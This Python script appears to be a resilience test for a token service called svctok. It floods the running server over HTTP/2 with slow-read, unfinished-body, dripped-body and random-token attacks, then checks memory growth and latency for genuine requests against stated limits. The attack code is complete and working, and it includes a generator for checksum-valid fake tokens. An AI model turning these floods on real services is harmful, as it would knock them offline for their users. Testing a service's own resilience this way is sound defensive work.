"""Floods a running `svctok serve` over HTTP/2 and measures what it costs the service.

Prints one line per attack: the number of connections that the server had open, the resident
memory of the process before the attack and at its maximum, and how many of 100 authenticated
requests, each on a new connection, got a response within 100 ms. Exits with 1 if the memory growth
or the number of responses violates the limits that SECURITY.md states.

The attack unknown-tokens keeps the service busy. Its authenticated requests come from another
address, and half of them are for /healthz.

    flood.py --pid PID --address 127.0.0.1:8080 --token TOKEN --connections 60 [ATTACK ...]
"""

import argparse
import multiprocessing
import os
import secrets
import selectors
import socket
import sys
import time
import zlib

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

MAX_GROWTH_MB = 64
GOOD_REQUESTS = 100
MIN_ANSWERED = 95
MAX_SECONDS = 0.1

FORM = "application/x-www-form-urlencoded"
POSTS = [
    "/revoke",
    "/introspect",
    "/service-tokens",
    "/service-tokens/revoke",
    "/service-tokens/self/rotate",
    "/api/security/tokens",
    "/api/v1/service-account-tokens",
    "/workspace",
    "/verify",
    "/healthz",
]


class Attack:
    """What one stream sends, and the window that the client grants for its response."""

    def __init__(self, method, paths, window, body=b"", drip=False, unknown_tokens=False):
        self.method = method
        self.paths = paths
        self.window = window
        self.body = body
        self.drip = drip
        self.unknown_tokens = unknown_tokens


ATTACKS = {
    # The client grants the default window for each response and reads none of it.
    "unread-openapi": Attack("GET", ["/openapi.json"], 65535),
    # One byte is enough for some servers to buffer the whole response.
    "unread-openapi-1": Attack("GET", ["/openapi.json"], 1),
    "unread-metrics": Attack("GET", ["/metrics"], 65535),
    "unread-metrics-0": Attack("GET", ["/metrics"], 0),
    "unfinished-revoke": Attack("POST", ["/revoke"], 65535, body=b"token=" + b"x" * 60000),
    "unfinished-posts": Attack("POST", POSTS, 65535, body=b"token=" + b"x" * 60000),
    "dripped-revoke": Attack("POST", ["/revoke"], 65535, body=b"token=", drip=True),
    # Each request makes the service look up another token.
    "unknown-tokens": Attack("GET", ["/verify"], 65535, unknown_tokens=True),
}

DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"

# The source address of authenticated requests if the attack uses up the limit of its own address.
OTHER_ADDRESS = "127.0.0.9"


def unknown_token():
    """Returns a random token with a valid checksum."""
    digits = [secrets.choice(DIGITS) for _ in range(34)]
    text = "svctok-" + "".join(digits[:10]) + "_" + "".join(digits[10:])
    rest = zlib.crc32(text.encode())
    checksum = ""
    for _ in range(6):
        rest, digit = divmod(rest, 62)
        checksum = DIGITS[digit] + checksum
    return text + checksum


class Connection:
    """An HTTP/2 connection of the attacker, which responds to pings and settings."""

    def __init__(self, address, attack, streams):
        self.attack = attack
        self.streams = streams
        self.open = {}
        self.count = 0
        self.closed = False
        self.socket = socket.create_connection(address)
        self.socket.setblocking(False)
        config = h2.config.H2Configuration(client_side=True, header_encoding=None)
        self.h2 = h2.connection.H2Connection(config)
        window = h2.settings.SettingCodes.INITIAL_WINDOW_SIZE
        self.h2.local_settings[window] = attack.window
        self.h2.initiate_connection()
        self.out = b""

    def add_streams(self):
        """Opens as many streams as the server allows, each with a part of its body."""
        limit = min(self.streams, self.h2.remote_settings.max_concurrent_streams)
        while len(self.open) < limit and not self.closed:
            path = self.attack.paths[self.count % len(self.attack.paths)]
            self.count += 1
            try:
                stream = self.h2.get_next_available_stream_id()
                self.h2.send_headers(stream, self.headers(path), end_stream=not self.attack.body)
            except h2.exceptions.ProtocolError:
                return
            self.open[stream] = self.attack.body

    def headers(self, path):
        headers = [
            (":method", self.attack.method),
            (":scheme", "http"),
            (":authority", "svctok.test"),
            (":path", path),
        ]
        if self.attack.body:
            headers.append(("content-type", FORM))
        if self.attack.unknown_tokens:
            headers.append(("x-api-key", unknown_token()))
        return headers

    def send_bodies(self):
        """Sends as much of each body as the windows allow, or one byte per call of a dripped body."""
        for stream, rest in list(self.open.items()):
            if self.attack.drip and not rest:
                rest = b"x"
            try:
                size = min(len(rest), self.h2.local_flow_control_window(stream), 16384)
                if size > 0:
                    self.h2.send_data(stream, rest[:size])
                    self.open[stream] = rest[size:]
            except h2.exceptions.ProtocolError:
                self.open.pop(stream, None)

    def receive(self):
        try:
            data = self.socket.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.close()
            return
        try:
            events = self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.close()
            return
        for event in events:
            # Data is not acknowledged, so that the windows stay exhausted.
            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                self.open.pop(event.stream_id, None)
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.close()

    def flush(self):
        if self.closed:
            return
        self.out += self.h2.data_to_send()
        try:
            while self.out:
                self.out = self.out[self.socket.send(self.out) :]
        except BlockingIOError:
            pass
        except OSError:
            self.close()

    def close(self):
        self.closed = True
        self.socket.close()


def flood(address, name, connections, streams, deadline, core, ready):
    """Runs the attack until the deadline. Replaces connections that the server closes."""
    os.sched_setaffinity(0, {core})
    attack = ATTACKS[name]
    selector = selectors.DefaultSelector()
    pool = set()
    while time.monotonic() < deadline:
        while len(pool) < connections and time.monotonic() < deadline:
            try:
                connection = Connection(address, attack, streams)
            except OSError:
                break
            pool.add(connection)
            selector.register(connection.socket, selectors.EVENT_READ, connection)
            connection.flush()
            if len(pool) % 50 == 0:
                process_events(selector, pool, 0)
        if len(pool) >= connections:
            ready.set()
        process_events(selector, pool, 0.05)
    for connection in pool:
        connection.close()


def process_events(selector, pool, wait):
    sockets = {key.data: key.fileobj for key, _ in selector.select(wait)}
    for connection in sockets:
        connection.receive()
    for connection in list(pool):
        if not connection.closed and connection.h2.remote_settings.max_concurrent_streams:
            connection.add_streams()
            connection.send_bodies()
            connection.flush()
        if connection.closed:
            pool.discard(connection)
    # `unregister` also accepts closed sockets.
    for key in list(selector.get_map().values()):
        if key.data.closed:
            selector.unregister(key.fileobj)


def good_request(address, token, path, source):
    """Sends one authenticated request on a new connection. Returns the status and the duration."""
    started = time.monotonic()
    status = 0
    try:
        with socket.create_connection(address, timeout=5, source_address=source) as stream:
            head = f"GET {path} HTTP/1.1\r\nhost: svctok.test\r\n"
            head += f"x-api-key: {token}\r\nconnection: close\r\n\r\n"
            stream.sendall(head.encode())
            response = b""
            while part := stream.recv(65536):
                response += part
            status = int(response.split(b" ", 2)[1])
    except (OSError, IndexError, ValueError):
        pass
    return status, time.monotonic() - started


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise SystemExit("the process has ended")


def sockets(pid):
    """Returns the number of sockets that the process has open."""
    count = 0
    for descriptor in os.listdir(f"/proc/{pid}/fd"):
        try:
            count += os.readlink(f"/proc/{pid}/fd/{descriptor}").startswith("socket:")
        except OSError:
            pass
    return count


def measure(args, address, name):
    before = rss_mb(args.pid)
    deadline = time.monotonic() + args.seconds
    ready = multiprocessing.Event()
    arguments = (address, name, args.connections, args.streams, deadline, args.core, ready)
    idle_sockets = sockets(args.pid)
    opened = []
    attacker = multiprocessing.Process(target=flood, args=arguments)
    attacker.start()
    ready.wait(args.seconds / 2)
    highest = rss_mb(args.pid)
    times = []
    answered = 0
    paths, source = ["/service-tokens/self"], None
    if ATTACKS[name].unknown_tokens:
        paths, source = ["/service-tokens/self", "/healthz"], (OTHER_ADDRESS, 0)
    for number in range(GOOD_REQUESTS):
        path = paths[number % len(paths)]
        status, elapsed = good_request(address, args.token, path, source)
        times.append(elapsed)
        answered += status == 200 and elapsed <= MAX_SECONDS
        highest = max(highest, rss_mb(args.pid))
        opened.append(sockets(args.pid) - idle_sockets)
        time.sleep(0.03)
    while attacker.is_alive():
        highest = max(highest, rss_mb(args.pid))
        time.sleep(0.05)
    p95 = sorted(times)[MIN_ANSWERED - 1] * 1000
    growth = highest - before
    print(
        f"{name}: {sorted(opened)[len(opened) // 2]} (median) to {max(opened)} of "
        f"{args.connections} connections open, RSS {before:.0f} -> {highest:.0f} MB "
        f"(+{growth:.0f}), {answered} of {GOOD_REQUESTS} answered within 100 ms, p95 {p95:.0f} ms",
        flush=True,
    )
    return growth <= MAX_GROWTH_MB and answered >= MIN_ANSWERED


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--address", required=True)
    parser.add_argument("--token", required=True)
    parser.add_argument("--connections", type=int, default=60)
    parser.add_argument("--streams", type=int, default=200)
    parser.add_argument("--seconds", type=float, default=12)
    parser.add_argument("--core", type=int, default=0, help="CPU core of the attacker")
    parser.add_argument("attacks", nargs="*", default=list(ATTACKS))
    args = parser.parse_args()
    host, port = args.address.rsplit(":", 1)
    address = (host, int(port))
    passed = [measure(args, address, name) for name in args.attacks]
    sys.exit(0 if all(passed) else 1)


if __name__ == "__main__":
    main()
